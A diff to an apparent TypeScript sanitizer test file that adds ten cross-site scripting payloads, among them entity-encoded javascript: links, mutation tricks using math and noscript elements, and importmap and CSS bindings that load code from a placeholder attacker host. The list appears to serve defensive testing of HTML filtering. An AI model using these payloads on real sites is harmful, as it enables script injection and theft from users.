@@ -46,6 +46,16 @@ export const htmlPayloads: readonly string[] = [
   `<![CDATA[<img src=x onerror=${run}>]]>`,
   `<x-card onclick=${run} contenteditable onbeforeinput=${run}>custom</x-card>`,
   `<dialog open><form method=dialog><button onclick=${run}>ok</button></form></dialog>`,
+  `<img src=\`x\` onerror=\`${run}\`>`,
+  `<img src=x:x onerror\n=\n"${run}">`,
+  `<IMG SRC=j&#X41vascript:${run}>`,
+  `<svg/onload=&#x77;indow.hacked&#61;1>`,
+  `<a href="&#x6A;avascript:${run}">entities</a> <a href=" javascript:${run}">blank</a> <a href="java\nscript:${run}">newline</a>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+  `<p style="x:expression(${run});-moz-binding:url(${evil}/x.xml)" align=center>styled</p>`,
+  `<object type="text/html" data="javascript:parent.hacked=1"></object>`,
+  `<script type=importmap>{"imports":{"x":"${evil}/x.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["${evil}/sr"]}]}</script>`,
   `<button popovertarget=x>t</button><div popover id=x onbeforetoggle=${run}>p</div>`,
 ];
 
